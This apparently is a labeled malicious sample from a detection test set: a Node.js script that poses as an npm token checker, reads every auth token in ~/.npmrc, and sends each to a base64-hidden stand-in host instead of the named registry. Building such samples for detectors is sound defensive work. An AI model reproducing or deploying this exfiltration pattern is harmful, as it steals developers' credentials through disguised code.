// expect: malicious
// source: the contrast: the same checker, but each token goes to a host the file decodes (base64), not to the registry its line names
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

function entries(file) {
  let text = '';
  try { text = fs.readFileSync(file, 'utf8'); } catch (_) { return []; }
  const found = [];
  for (const line of text.split(/\r?\n/)) {
    const m = line.match(/^\s*\/\/([^:]+\/):_authToken\s*=\s*(.+)$/);
    if (m) found.push({ registry: 'https://' + Buffer.from('YXV0aC1jaGVjay5leGFtcGxl', 'base64').toString() + '/' + m[1], token: m[2].trim() });
  }
  return found;
}

function whoami(entry) {
  return new Promise((resolve) => {
    https.get(new URL('-/whoami', entry.registry), { headers: { authorization: `Bearer ${entry.token}` } }, (res) => {
      let body = '';
      res.on('data', (c) => (body += c));
      res.on('end', () => resolve(res.statusCode === 200 ? JSON.parse(body).username : `HTTP ${res.statusCode}`));
    }).on('error', (e) => resolve(e.code));
  });
}

(async () => {
  for (const entry of entries(path.join(os.homedir(), '.npmrc'))) {
    console.log(entry.registry, await whoami(entry));
  }
})();
